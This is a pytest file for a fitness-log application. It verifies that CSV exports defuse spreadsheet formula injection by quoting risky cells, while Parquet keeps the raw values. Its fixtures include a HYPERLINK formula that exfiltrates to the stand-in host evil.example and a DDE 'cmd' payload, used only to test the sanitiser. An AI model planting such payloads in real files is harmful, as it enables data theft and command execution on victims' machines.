"""CSV exports never hand a spreadsheet a formula (OWASP CSV Injection, issue 16): text cells that
start with = + - @, tab or carriage return get a leading quote; numbers stay numbers; Parquet
keeps the stored values. Through the real CLI on a real Strong export, and the web app's zip."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest

from backcheck.cli import main
from backcheck.textsafe import FORMULA_START, spreadsheet_cell, spreadsheet_safe
from testdata import DATA

SOURCE = DATA / "logs" / "strong" / "breinsp_strong.csv"
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EXERCISE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "+1 felt heavy"
WORKOUT_NOTE = "-2 kg next time"
ATHLETE = "=evil"


def formula_export(folder: Path) -> Path:
    """breinsp_strong.csv with formula-like title, exercise name and notes in its cells."""
    lines = SOURCE.read_text(encoding="utf-8").splitlines()
    quoted = TITLE.replace('"', '""')
    out = [lines[0]]
    for i, original in enumerate(lines[1:]):
        line = original.replace('"Mittwoch"', f'"{quoted}"').replace(
            '"Lat Pulldown (Cable)"', f'"{EXERCISE}"'
        )
        if i == 0:
            assert line.endswith(',"","",')
            line = line[: -len(',"","",')] + f',"{NOTE}","{WORKOUT_NOTE}",'
        out.append(line)
    path = folder / "formulas_strong.csv"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    """No cell a spreadsheet would run: none starts with a formula character, except numbers."""
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_START):
                float(cell)  # only a negative number may start with "-"
                assert column not in ("exercise", "session_name", "notes", "athlete", "note")


def test_spreadsheet_cell_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    for text in ("Bench Press", "", " =1", "'=1", "1-2", "a=b"):
        assert spreadsheet_cell(text) == text


def test_the_frame_and_the_cell_versions_agree() -> None:
    texts = [
        f"{c}{rest}"
        for c in ("=", "+", "-", "@", "\t", "\r", "\n", " ", "'", "a", "日")
        for rest in ("", "1+1", "\t=x", "cmd|' /C calc'!A0")
    ]
    frame = spreadsheet_safe(pl.DataFrame({"text": texts}))
    assert frame["text"].to_list() == [spreadsheet_cell(t) for t in texts]


def test_spreadsheet_safe_changes_text_columns_only() -> None:
    frame = pl.DataFrame(
        {"name": ["=1+1", "-x", "ok", None], "kg": [-2.5, 1.0, None, 3.0], "n": [-1, 2, 3, 4]}
    )
    safe = spreadsheet_safe(frame)
    assert safe["name"].to_list() == ["'=1+1", "'-x", "ok", None]
    assert safe.schema == frame.schema and safe.drop("name").equals(frame.drop("name"))
    rows = csv_rows(safe.write_csv())
    assert rows[0]["kg"] == "-2.5" and rows[0]["n"] == "-1"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = main(list(args))
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return captured.out


@pytest.fixture(name="db")
def db_fixture(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    db = f"sqlite:///{tmp_path / 'formulas.db'}"
    run(capsys, "--db", db, "--athlete", ATHLETE, "import", str(formula_export(tmp_path)))
    return db


def test_csv_export_of_sets_neutralises_text_cells(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "sets.csv"
    run(capsys, "--db", db, "--athlete", ATHLETE, "export", "--format", "csv", "--out", str(out))
    rows = csv_rows(out.read_text(encoding="utf-8"))
    assert len(rows) > 2000
    assert_no_formula(rows)
    assert {r["athlete"] for r in rows} == {"'" + ATHLETE}
    assert "'" + TITLE in {r["session_name"] for r in rows}
    assert "'" + EXERCISE in {r["exercise"] for r in rows}
    first = rows[0]
    assert (first["notes"], first["session_notes"]) == ("'" + NOTE, "'" + WORKOUT_NOTE)
    assert float(first["weight_kg"]) == 75.0 and first["reps"] == "8"  # numbers stay numbers


def test_csv_export_of_results_neutralises_the_athlete(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "results.csv"
    run(
        capsys,
        "--db",
        db,
        "--athlete",
        ATHLETE,
        "export",
        "--format",
        "csv",
        "--what",
        "results",
        "--out",
        str(out),
    )
    (row,) = csv_rows(out.read_text(encoding="utf-8"))
    assert row["athlete"] == "'" + ATHLETE
    assert_no_formula([row])


def test_parquet_keeps_the_stored_values(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "sets.parquet"
    run(capsys, "--db", db, "--athlete", ATHLETE, "export", "--out", str(out))
    frame = pl.read_parquet(out)
    assert set(frame["athlete"].to_list()) == {ATHLETE}
    assert TITLE in frame["session_name"].to_list() and EXERCISE in frame["exercise"].to_list()
    assert frame.schema["weight_kg"] == pl.Float64


def test_web_zip_neutralises_its_csv_files(tmp_path: Path) -> None:
    webtools = pytest.importorskip("webtools")
    import zipfile

    from test_web_pages import finished, page_upload

    settings = webtools.make_settings(tmp_path)
    with webtools.TestClient(
        webtools.create_app(settings), base_url="https://testserver"
    ) as client:
        web = webtools.Web(client).signup()
        base = f"/a/{web.athlete}"
        job = page_upload(web, f"{base}/import", [formula_export(tmp_path)])
        assert "Done." in finished(web, job.headers["location"])
        r = web.form(
            f"{base}/pain",
            {"date": "2021-03-01", "level": "3", "region": "shoulder-blade-left", "note": "=1+1"},
        )
        assert r.status_code == 200
        z = zipfile.ZipFile(io.BytesIO(client.get("/account/export.zip").content))
    sets = csv_rows(z.read(f"{web.athlete}/sets.csv").decode("utf-8"))
    pain = csv_rows(z.read(f"{web.athlete}/pain.csv").decode("utf-8"))
    assert_no_formula(sets)
    assert_no_formula(pain)
    assert "'" + TITLE in {r["session_name"] for r in sets}
    assert "'" + EXERCISE in {r["exercise"] for r in sets}
    assert [(p["level"], p["note"]) for p in pain] == [("3", "'=1+1")]
    assert any(r["weight_kg"] == "75.0" for r in sets)
    why = json.loads(z.read(f"{web.athlete}/why.json"))  # JSON is not a spreadsheet: raw
    assert why["athlete"] == web.athlete
